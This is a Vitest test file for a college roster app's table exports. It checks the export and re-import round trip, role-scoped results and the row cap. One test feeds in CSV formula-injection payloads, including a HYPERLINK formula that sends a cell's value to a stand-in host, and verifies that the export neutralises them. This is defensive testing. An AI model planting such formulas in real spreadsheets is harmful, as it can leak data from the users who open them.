import { sql } from 'kysely';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readRosterBuffer } from '../../src/core/roster/read-file.ts';
import { DIALECTS } from '../helpers/db.ts';
import { asFile, csvBytes, freshPlace, xlsxBytes } from '../fixtures/roster/roster-calls.ts';
import { makeHarness, type Harness } from './support/harness.ts';

// exports:table on SQLite and MariaDB: the list's filter and scope, formula-safe CSV, the row cap,
// and the round trip the issue asks for: export students → re-import unchanged → 0 created, 0 updated.

describe.each(DIALECTS)('table exports on %s', (dialect) => {
  let h: Harness;
  beforeAll(async () => {
    h = await makeHarness(dialect);
  });
  afterAll(async () => {
    await h.close();
  });

  const bytes = (b64: string): Buffer => Buffer.from(b64, 'base64');

  it('round trip: exported students re-import with nothing created and nothing updated', async () => {
    const p = await freshPlace(h);
    const roster = await xlsxBytes(
      ['Roll No', 'First Name', 'Last Name', 'Email', 'Program', 'Year', 'CGPA', 'Attendance'],
      [
        ['00123', 'Ramesh', 'K.', 'ramesh.rt@college.edu', 'B.Tech CSE', 2, 8.25, 82.5],
        ['21CSRT01', '=1+2', 'Formula', 'formula.rt@college.edu', 'B.Tech CSE', 1, null, 91],
        ['21CSRT02', "'Quoted", 'Name', 'quoted.rt@college.edu', 'MCA', 3, 6.5, null],
        ['21CSRT03', 'Zoë', 'D’Souza, Jr', 'zoe.rt@college.edu', 'MCA', 4, 9, 74.25],
      ],
    );
    const imported = await h.must(p.session, 'roster:commit', {
      file: asFile('term.xlsx', roster),
      kind: 'students',
      departmentId: p.deptId,
      mode: 'abort-on-error',
    });
    expect(imported.created).toBe(4);
    for (const format of ['xlsx', 'csv'] as const) {
      const out = await h.must(p.session, 'exports:table', {
        table: 'students',
        format,
        filter: { departmentId: p.deptId, sort: 'rollNumber' },
      });
      expect(out).toMatchObject({
        rows: 4,
        fileName: `Students ${h.clock.now().toISOString().slice(0, 10)}.${format}`,
      });
      const again = await h.must(p.session, 'roster:commit', {
        file: asFile(out.fileName, bytes(out.base64)),
        kind: 'students',
        departmentId: p.deptId,
        mode: 'abort-on-error',
      });
      expect(again, format).toMatchObject({ created: 0, updated: 0, unchanged: 4, skipped: 0 });
    }
  });

  it('CSV cells that Excel would run as formulas are neutralised; xlsx keeps them as text', async () => {
    const p = await freshPlace(h);
    await h.must(p.session, 'roster:commit', {
      file: asFile(
        'evil.csv',
        csvBytes([
          ['Roll No', 'First Name', 'Last Name', 'Email'],
          ['EV001', '=HYPERLINK("http://x.example/?"&A1)', 'Evil', 'evil1@x.edu'],
          ['EV002', '@SUM(A1)', 'Sum', 'evil2@x.edu'],
          ['EV003', '-2+3', 'Minus', 'evil3@x.edu'],
        ]),
      ),
      kind: 'students',
      departmentId: p.deptId,
      mode: 'abort-on-error',
    });
    const filter = { departmentId: p.deptId, sort: 'rollNumber' as const };
    const csv = bytes(
      (await h.must(p.session, 'exports:table', { table: 'students', format: 'csv', filter })).base64,
    );
    const text = csv.toString('utf8');
    expect(text.split('\r\n')[0]).toBe(
      '\uFEFFRoll Number,First Name,Last Name,Email,Program,Year,GPA,Attendance %,Risk,Account,Department,Current Mentors',
    );
    const cells = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data.slice(1);
    expect(cells.map((r) => r[1])).toEqual(['\'=HYPERLINK("http://x.example/?"&A1)', "'@SUM(A1)", "'-2+3"]);
    expect(cells.flat().some((c) => /^[=+@-]/.test(c))).toBe(false);
    const xlsx = bytes(
      (await h.must(p.session, 'exports:table', { table: 'students', format: 'xlsx', filter })).base64,
    );
    const table = await readRosterBuffer(xlsx, 'students.xlsx');
    expect(table.rows.map((r) => r.cells['First Name'])).toEqual([
      '=HYPERLINK("http://x.example/?"&A1)',
      '@SUM(A1)',
      '-2+3',
    ]);
  });

  it('exports what the list shows the role: a mentor its mentees, a student its own goals', async () => {
    const mentorSession = h.as('MENTOR');
    const listed = await h.must(mentorSession, 'students:list', { pageSize: 200 });
    const out = await h.must(mentorSession, 'exports:table', {
      table: 'students',
      format: 'csv',
      filter: {},
    });
    expect(out.rows).toBe(listed.total);
    const rolls = bytes(out.base64)
      .toString('utf8')
      .split('\r\n')
      .slice(1, -1)
      .map((l) => l.split(',')[0]);
    expect(rolls.sort()).toEqual(listed.rows.map((r) => r.rollNumber).sort());
    const refused = await h.call(h.as('STUDENT'), 'exports:table', {
      table: 'audit',
      format: 'csv',
      filter: {},
    });
    expect(refused).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    const mentors = await h.must(h.as('DEPARTMENT_ADMIN'), 'exports:table', {
      table: 'mentors',
      format: 'xlsx',
      filter: {},
    });
    const back = await readRosterBuffer(bytes(mentors.base64), 'm.xlsx');
    expect(back.sheetName).toBe('Mentors');
    expect(back.headers).toContain('Max Mentees');
    expect(back.rows).toHaveLength(mentors.rows);
  });

  it('pages through every row in scope and refuses more than 100,000 with a clear message', async () => {
    const t = (iso: string) => iso;
    const now = t(h.clock.now().toISOString());
    // 4,500 audit rows (three pages of the export), then enough for the cap.
    const digits = sql.raw([0, 1, 2, 3, 4, 5, 6, 7, 8, 9].map((d) => `select ${d} as d`).join(' union all '));
    // Up to 100,000 rows from five crossed digit tables (no recursive CTE: MariaDB caps its iterations).
    const bulk = (n: number) =>
      sql`insert into audit_logs (userId, action, entity, entityId, createdAt)
          select ${h.world.superAdmin.id}, 'bulk:test', 'users', ${h.world.student.id}, ${now}
          from (${digits}) a, (${digits}) b, (${digits}) c, (${digits}) d, (${digits}) e limit ${n}`.execute(
        h.db.kysely,
      );
    await bulk(4500);
    const admin = h.as('SUPER_ADMIN');
    const filter = { action: 'bulk:test' };
    const out = await h.must(admin, 'exports:table', { table: 'audit', format: 'csv', filter });
    expect(out.rows).toBe(4500);
    expect(bytes(out.base64).toString('utf8').trimEnd().split('\r\n')).toHaveLength(4501);
    const x = await h.must(admin, 'exports:table', { table: 'audit', format: 'xlsx', filter });
    expect((await readRosterBuffer(bytes(x.base64), 'a.xlsx')).rows).toHaveLength(4500);
    await bulk(95_501);
    const r = await h.call(admin, 'exports:table', { table: 'audit', format: 'csv', filter });
    expect(r).toMatchObject({
      ok: false,
      error: {
        code: 'VALIDATION',
        message: expect.stringContaining('This view has 100,001 rows; an export holds at most 100,000.'),
      },
    });
  });
});
